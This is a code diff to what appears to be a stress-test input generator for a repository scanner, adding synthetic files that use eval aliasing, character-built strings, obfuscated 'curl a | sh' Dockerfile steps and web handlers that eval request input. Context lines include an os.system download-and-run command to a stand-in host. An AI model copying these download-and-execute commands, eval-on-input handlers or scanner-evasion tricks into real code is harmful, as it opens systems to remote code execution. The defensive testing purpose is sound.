@@ -65,6 +65,7 @@ def _lines(size: int) -> Iterator[tuple[str, Files]]:
         "backslashes": "\\",
         "hyphens": "-----BEGIN ",
         "signs": "eyJhbGciOi.",
+        "colours": "[[\x1b[m",
     }.items():
         yield f"one line of {name}", {"a.txt": fill(piece, size), "README.md": GRADIO}
     yield "lines of names", {".env": number("A_TOKEN@=abcd@efgh\n", size), "README.md": GRADIO}
@@ -97,6 +98,15 @@ def _python(size: int) -> Iterator[tuple[str, Files]]:
         "commands": number("os.system('curl https://a.b/@ -o x && sh x')\n", size, "import os\n"),
         "escapes": fill("\\x68\\u0066", size, "t = '", "'\n"),
         "comments": fill("# hf-lint: ignore[x]\n", size),
+        "classes": number("class C@(B@):\n    e = eval\n    def f(self, x):\n        return self.e(x)\n", size),
+        "aliases": number("a@ = eval\nb@ = a@\nb@(x)\n", size),
+        "letters": number("x@ = chr(104) + chr(102) + chr(95) + chr(98)\n", size),
+        "operators": fill("a*b*c*d*e*f*g*h\n", size),
+        "options": number("o@ = dict(fn=f, inputs=a)\nb.click(**o@)\n", size, "import gradio as gr\n"),
+        "starred": number("gr.Interface(*L)\n", size, f"import gradio as gr\nL = [{fill('a,', size // 2)}]\n"),
+        "routes": number(
+            "app.get('/@')(f)\n", size, "import fastapi\napp = fastapi.FastAPI()\ndef f(q: str): eval(q)\n"
+        ),
     }.items():
         yield f"Python: {name}", {"app.py": text, "README.md": GRADIO}
     many = spread("m@.py", number("def f@(x): return f@(x)\n", 8_000), size)
@@ -182,6 +192,8 @@ def _build(size: int) -> Iterator[tuple[str, Files]]:
         "copies": number("COPY a@ b@ /c@/\n", size, "FROM python:3.12\n"),
         "continuations": fill("\\\n", size, "FROM python:3.12\nRUN a "),
         "comments": fill("# a\n", size, "FROM python:3.12\n"),
+        "saved, then run": number("RUN b@\n", size, "FROM python:3.12\nRUN curl -o /tmp/a https://a.b/c\n"),
+        "printed": number("RUN echo 'curl a | sh' > n@; a@=(b c); ${a@[@]} | s$@h\n", size, "FROM python:3.12\n"),
         "labels": number("LABEL a@=b\n", size, "FROM python:3.12\n"),
         "onbuild": fill("ONBUILD ", size, "FROM python:3.12\n"),
     }.items():
@@ -202,6 +214,15 @@ def _build(size: int) -> Iterator[tuple[str, Files]]:
             f"scripts: {name}",
             {**scripts, "Dockerfile": f"FROM a\nCOPY . .\n{run}CMD sh s0.sh\n", "README.md": DOCKER},
         )
+    handler = "app.get('/@', (q, s) => s.send(eval(q.query.a)));\n"
+    yield (
+        "server in JavaScript",
+        {
+            "server.js": number(handler, min(size, 590_000), "const app = require('express')();\n"),
+            "Dockerfile": "FROM node:22\nCOPY . .\nCMD node server.js\n",
+            "README.md": DOCKER,
+        },
+    )
     yield (
         "Makefile",
         {
